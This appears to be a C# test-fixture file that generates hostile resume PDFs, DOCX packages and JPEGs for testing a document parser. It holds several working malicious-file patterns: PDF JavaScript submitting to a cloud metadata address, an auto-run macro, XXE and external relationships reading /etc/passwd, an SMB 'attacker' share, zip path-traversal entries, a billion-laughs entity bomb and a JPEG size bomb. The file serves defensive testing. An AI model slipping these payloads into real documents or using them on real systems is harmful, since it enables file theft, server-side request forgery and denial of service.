using System.IO.Compression;
using System.Text;
using PdfSharp.Drawing;
using PdfSharp.Pdf;
using Resume.Fonts;

namespace Resume.Fixtures;

/// <summary>
/// Good resumes made hostile after the fact, and the PDF and Office shapes the other hostile builders do not write:
/// a broken cross-reference table, no pages, a page the size of a field, active content, packages that reach outside
/// themselves or lie about their parts. Each is small on disk.
/// </summary>
public static class HostileVariants
{
    /// <summary>A readable PDF whose <c>startxref</c> points into the middle of an object: a reader must rebuild the table or give up.</summary>
    public static byte[] BrokenXref(byte[] pdf)
    {
        var text = Encoding.Latin1.GetString(pdf);
        var at = text.LastIndexOf("startxref", StringComparison.Ordinal);
        var end = text.IndexOf("%%EOF", at, StringComparison.Ordinal);
        return Encoding.Latin1.GetBytes(text[..at] + "startxref\n17\n" + text[end..]);
    }

    /// <summary>A well-formed PDF with a page tree of no pages.</summary>
    public static byte[] NoPages()
    {
        var pdf = new RawPdf();
        pdf.Add("<< /Type /Catalog /Pages 2 0 R >>");
        pdf.Add("<< /Type /Pages /Kids [] /Count 0 >>");
        return pdf.Build();
    }

    /// <summary>One page of resume text, with <paramref name="catalogExtra"/> in the catalog and <paramref name="after"/>'s objects from 6 on.</summary>
    private static byte[] TextPage(string mediaBox = "0 0 612 792", string catalogExtra = "", Action<RawPdf>? after = null)
    {
        var pdf = new RawPdf();
        pdf.Add($"<< /Type /Catalog /Pages 2 0 R {catalogExtra} >>");
        pdf.Add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
        pdf.Add($"<< /Type /Page /Parent 2 0 R /MediaBox [{mediaBox}] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>");
        pdf.AddStream("", RawPdf.TextContent(
            "Jordan Avery", "Backend Developer", "jordan.avery@example.com  +1 555 0100",
            "Experience", "Senior Developer, Northwind, 2019 - 2024", "Built payment services in C# and PostgreSQL.",
            "Education", "BSc Computer Science, State University, 2015 - 2019", "Skills", "C#, .NET, RabbitMQ, PostgreSQL, Docker"));
        pdf.Add(RawPdf.HelveticaFont);
        after?.Invoke(pdf);
        return pdf.Build();
    }

    /// <summary>A resume page 14,400 points square (200 inches, the largest a PDF allows), and larger still in user units.</summary>
    public static byte[] HugePage() => TextPage("0 0 14400 14400 /UserUnit 75000");

    /// <summary>A resume that runs JavaScript on opening (<c>/OpenAction</c>) and names more under <c>/Names /JavaScript</c>.</summary>
    public static byte[] WithJavaScript() => TextPage(catalogExtra: "/OpenAction 6 0 R /Names << /JavaScript << /Names [(x) 6 0 R] >> >>",
        after: pdf => pdf.Add("<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://169.254.169.254/'\\);) >>"));

    /// <summary>A resume carrying an embedded executable file (<c>/EmbeddedFiles</c>).</summary>
    public static byte[] WithEmbeddedFile() => TextPage(catalogExtra: "/Names << /EmbeddedFiles << /Names [(run.exe) 7 0 R] >> >>",
        after: pdf =>
        {
            pdf.AddStream("/Type /EmbeddedFile", Encoding.ASCII.GetBytes("MZ this would be a program"));
            pdf.Add("<< /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>");
        });

    /// <summary>A resume with an owner password only: it opens for anyone (printing and copying "restricted").</summary>
    public static byte[] OwnerPasswordOnly(byte[] readable)
    {
        using var document = PdfSharp.Pdf.IO.PdfReader.Open(new MemoryStream(readable), PdfSharp.Pdf.IO.PdfDocumentOpenMode.Modify);
        document.SecuritySettings.OwnerPassword = "owner-only";
        document.SecuritySettings.PermitExtractContent = false;
        return document.ToBytes();
    }

    /// <summary>
    /// Text drawn in a TrueType font with no <c>/ToUnicode</c> map and a private encoding (glyph codes shifted): the
    /// shapes on the page read as a resume, the character codes as nothing.
    /// </summary>
    public static byte[] FontWithoutToUnicode()
    {
        var pdf = new RawPdf();
        pdf.Add("<< /Type /Catalog /Pages 2 0 R >>");
        pdf.Add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
        pdf.Add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>");
        var shifted = new StringBuilder("BT /F1 11 Tf 72 740 Td 14 TL\n");
        foreach (var line in new[] { "Jordan Avery", "Backend Developer", "Experience", "Senior Developer 2019 - 2024", "Skills C# PostgreSQL" })
        {
            shifted.Append('<').Append(string.Concat(line.Select(c => ((c + 29) % 256).ToString("X2", System.Globalization.CultureInfo.InvariantCulture)))).Append("> Tj T*\n");
        }
        pdf.AddStream("", Encoding.ASCII.GetBytes(shifted.Append("ET").ToString()));
        pdf.Add("<< /Type /Font /Subtype /TrueType /BaseFont /ABCDEE+Private /FirstChar 0 /LastChar 255 /Encoding << /Differences [0 /g0] >> >>");
        return pdf.Build();
    }

    /// <summary>A DOCX that is really a macro-enabled document: a VBA project, its relationship and the macro content type.</summary>
    public static byte[] WithMacros(byte[] docx) => Rewrite(docx, zip =>
    {
        Replace(zip, "[Content_Types].xml", xml => xml
            .Replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal)
            .Replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>", StringComparison.Ordinal));
        Write(zip, "word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0, .. Encoding.ASCII.GetBytes("Sub AutoOpen() Shell \"calc.exe\" End Sub")]);
        Replace(zip, "word/_rels/document.xml.rels", xml => xml.Replace("</Relationships>",
            "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>", StringComparison.Ordinal));
    });

    /// <summary>A DOCX whose relationships point outside the package: an attached template on a metadata address, an image from a file path.</summary>
    public static byte[] ExternalRelationships(byte[] docx) => Rewrite(docx, zip => Replace(zip, "word/_rels/document.xml.rels", xml => xml.Replace("</Relationships>",
        "<Relationship Id=\"rIdExt1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://169.254.169.254/latest/meta-data/\" TargetMode=\"External\"/>" +
        "<Relationship Id=\"rIdExt2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"file:///etc/passwd\" TargetMode=\"External\"/>" +
        "<Relationship Id=\"rIdExt3\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" Target=\"\\\\attacker\\share\\x.bin\" TargetMode=\"External\"/></Relationships>",
        StringComparison.Ordinal)));

    /// <summary>A DOCX whose document part declares a DTD of entities that expand ten to the ninth times ("billion laughs").</summary>
    public static byte[] EntityBomb()
    {
        var dtd = new StringBuilder("<!DOCTYPE w:document [<!ENTITY a0 \"lol\">");
        for (var i = 1; i <= 9; i++)
        {
            dtd.Append($"<!ENTITY a{i} \"").Append(string.Concat(Enumerable.Repeat($"&a{i - 1};", 10))).Append("\">");
        }
        dtd.Append("]>");
        return HostileDocx.Package($"<?xml version=\"1.0\" encoding=\"UTF-8\"?>{dtd}<w:document xmlns:w=\"{WordNamespace}\"><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>");
    }

    /// <summary>A DOCX whose document part pulls <c>/etc/passwd</c> in through an external entity (XXE).</summary>
    public static byte[] ExternalEntity() => HostileDocx.Package(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" +
        $"<w:document xmlns:w=\"{WordNamespace}\"><w:body><w:p><w:r><w:t>Jordan Avery &xxe;</w:t></w:r></w:p></w:body></w:document>");

    /// <summary>A readable DOCX with <paramref name="extra"/> more tiny entries beside its parts.</summary>
    public static byte[] ManyEntries(byte[] docx, int extra = 10_000) => Rewrite(docx, zip =>
    {
        for (var i = 0; i < extra; i++)
        {
            Write(zip, $"customXml/item{i}.xml", "<a/>"u8.ToArray());
        }
    });

    /// <summary>A readable DOCX with entries named to climb out of any folder it is unpacked into.</summary>
    public static byte[] TraversalNames(byte[] docx) => Rewrite(docx, zip =>
    {
        Write(zip, "../../../../tmp/evil.sh", "#!/bin/sh\necho pwned\n"u8.ToArray());
        Write(zip, "/etc/cron.d/evil", "* * * * * root true\n"u8.ToArray());
        Write(zip, "..\\..\\Windows\\evil.bat", "echo pwned\r\n"u8.ToArray());
    });

    /// <summary>A DOCX package whose main document part is missing (the relationship still names it).</summary>
    public static byte[] MissingMainPart(byte[] docx) => Rewrite(docx, zip => zip.GetEntry("word/document.xml")!.Delete());

    /// <summary>A DOCX whose central directory is overwritten with noise (the local entries intact).</summary>
    public static byte[] BrokenCentralDirectory(byte[] docx)
    {
        var bytes = (byte[])docx.Clone();
        var end = bytes.Length - 22;
        while (end > 0 && BitConverter.ToUInt32(bytes, end) != 0x06054b50u)
        {
            end--;
        }
        var directory = (int)BitConverter.ToUInt32(bytes, end + 16);
        new Random(5).NextBytes(bytes.AsSpan(directory, end - directory));
        return bytes;
    }

    /// <summary>A baseline JPEG's headers declaring 65,500 × 65,500 pixels over a few bytes of scan data.</summary>
    public static byte[] JpegBomb()
    {
        using var jpeg = new MemoryStream();
        jpeg.Write([0xFF, 0xD8]);
        jpeg.Write([0xFF, 0xDB, 0x00, 0x43, 0x00, .. Enumerable.Repeat((byte)1, 64)]);
        jpeg.Write([0xFF, 0xC0, 0x00, 0x0B, 0x08, 0xFF, 0xDC, 0xFF, 0xDC, 0x01, 0x01, 0x11, 0x00]);
        jpeg.Write([0xFF, 0xC4, 0x00, 0x14, 0x00, 0x01, .. Enumerable.Repeat((byte)0, 15), 0x00]);
        jpeg.Write([0xFF, 0xC4, 0x00, 0x14, 0x10, 0x01, .. Enumerable.Repeat((byte)0, 15), 0x00]);
        jpeg.Write([0xFF, 0xDA, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3F, 0x00]);
        jpeg.Write(new byte[4096]);
        jpeg.Write([0xFF, 0xD9]);
        return jpeg.ToArray();
    }

    /// <summary>A PDF drawn by PDFsharp with one line per entry: for payload resumes that must reach the PDF reader too.</summary>
    public static byte[] PdfOfLines(IReadOnlyList<string> lines)
    {
        PdfFonts.Register();
        using var document = new PdfDocument();
        var page = document.AddPage();
        using (var graphics = XGraphics.FromPdfPage(page))
        {
            var font = new XFont(PdfFonts.Sans, 10);
            for (var i = 0; i < lines.Count; i++)
            {
                graphics.DrawString(lines[i], font, XBrushes.Black, new XPoint(50, 60 + i * 14));
            }
        }
        return document.ToBytes();
    }

    private const string WordNamespace = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

    private static byte[] Rewrite(byte[] docx, Action<ZipArchive> change)
    {
        using var stream = new MemoryStream();
        stream.Write(docx);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            change(zip);
        }
        return stream.ToArray();
    }

    private static void Replace(ZipArchive zip, string name, Func<string, string> change)
    {
        // A package with no relationships of its own yet gets an empty list to add to.
        var xml = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"></Relationships>";
        if (zip.GetEntry(name) is { } entry)
        {
            using (var reader = new StreamReader(entry.Open()))
            {
                xml = reader.ReadToEnd();
            }
            entry.Delete();
        }
        Write(zip, name, new UTF8Encoding(false).GetBytes(change(xml)));
    }

    private static void Write(ZipArchive zip, string name, byte[] data)
    {
        using var entry = zip.CreateEntry(name, CompressionLevel.Fastest).Open();
        entry.Write(data);
    }
}
